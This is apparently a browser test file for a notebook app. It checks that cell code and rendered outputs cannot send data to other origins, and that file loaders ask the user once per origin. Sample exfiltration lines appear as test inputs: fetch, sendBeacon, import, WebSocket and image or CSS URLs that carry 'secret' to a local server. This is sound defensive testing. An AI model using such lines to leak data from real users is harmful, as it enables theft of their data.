/**
 * Nothing leaves the machine without consent, in real headless Chromium: the kernel's
 * worker is served with `connect-src 'self'`, so a cell's own fetch, beacon or import of
 * another origin never reaches it (a server on another port counts the requests); loaders
 * read another origin only after the user says yes, once per origin, and a refusal is
 * Python's PermissionError.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { useApp, openApp, newNotebook } from './harness';

const app = useApp();
let server: Server;
let port = 0;
const hits: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    if (req.url === '/data.csv') res.end('1,2\n3,4\n');
    else if (req.url === '/mod.js') res.setHeader('Content-Type', 'text/javascript'), res.end('export const x = 1;');
    else res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

describe('trust (Chromium)', () => {
  it("a cell's own requests to another origin are blocked; loaders ask once per origin", async () => {
    const { page } = await openApp(app);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void (d.message().includes(`http://127.0.0.1:${port}`) ? d.accept() : d.dismiss());
    });
    const run = (code: string) =>
      page.evaluate(async (code) => {
        const r = await (window as any).numbook.client.execute(code);
        return r.outputs.map((o: any) => (o.type === 'error' ? `${o.ename}: ${o.evalue}` : o.type === 'stream' ? o.text : o.data['text/plain']));
      }, code);
    const base = `http://127.0.0.1:${port}`;

    expect((await run(`await fetch("${base}/leak?secret=1")`))[0]).toMatch(/^TypeError: Failed to fetch/);
    expect((await run(`let ok = true; try { ok = navigator.sendBeacon("${base}/beacon", "secret") } catch { ok = false } ok`))[0]).toBe('false');
    expect((await run(`await import("${base}/mod.js")`))[0]).toMatch(/^TypeError: .*(Failed to fetch dynamically imported module|import)/);
    expect((await run(`const ws = new WebSocket("ws://127.0.0.1:${port}/ws"); await new Promise((r) => { ws.onerror = r; ws.onclose = r }); ws.readyState`))[0]).toBe('3');
    expect(hits).toEqual([]);
    expect(dialogs).toEqual([]);

    // A loader asks; yes for this origin, once.
    expect(await run(`await np.loadtxt("${base}/data.csv", {delimiter: ","})`)).toEqual(['array([[1., 2.],\n       [3., 4.]])']);
    expect(await run(`(await np.loadtxt("${base}/data.csv", {delimiter: ","})).sum()`)).toEqual(['10']);
    expect(dialogs).toHaveLength(1);
    expect(dialogs[0]).toContain(`A cell wants to read a file from ${base}`);
    expect(hits).toEqual(['/data.csv', '/data.csv']);

    // Another origin (same machine, another name): the user says no.
    const other = `http://localhost:${port}`;
    expect(await run(`await loadText("${other}/data.csv")`)).toEqual([`PermissionError: [Errno 13] Permission denied: ${other} (you did not allow cells to read from it)`]);
    expect(dialogs).toHaveLength(2);
    expect(hits).toHaveLength(2);
  }, 120_000);

  it('outputs cannot load from other sites (an image URL could carry data out); links stay', async () => {
    const { page } = await openApp(app);
    await newNotebook(page);
    const base = `http://127.0.0.1:${port}`;
    const before = hits.length;
    // Outputs drawn in the notebook, as a shared notebook's cell would make them.
    await page.evaluate(async (base) => {
      const c = (window as any).numbook.notebook.controller;
      const id = c.doc.cells[0].id;
      const html = `<img class="probe" src="${base}/img?d=secret"><img srcset="${base}/s?d=1 2x"><div class="styled" style="background:url(${base}/bg?d=1)">x</div><a class="link" href="${base}/page">a link</a>`;
      c.setSource(id, `display({"text/html": ${JSON.stringify(html)}}, {raw: true}); display({"text/markdown": "![x](${base}/md?d=secret)"}, {raw: true})`);
      await c.run([id]);
    }, base);
    await expect.poll(() => page.locator('nb-cell .nb-html img.probe').count(), { timeout: 20_000 }).toBe(1);
    const probe = page.locator('nb-cell .nb-html img.probe');
    expect(await probe.getAttribute('src')).toBeNull();
    expect(await probe.getAttribute('data-nb-blocked')).toBe(`${base}/img?d=secret`);
    expect(await page.locator('nb-cell .nb-html .styled').getAttribute('style')).toBeNull();
    expect(await page.locator('nb-cell .nb-html a.link').getAttribute('href')).toBe(`${base}/page`);
    await expect.poll(() => page.locator('nb-cell .nb-markdown-output img').count()).toBe(1);
    expect(await page.locator('nb-cell .nb-markdown-output img').getAttribute('src')).toBeNull();
    expect(hits.length).toBe(before);
  }, 120_000);
});
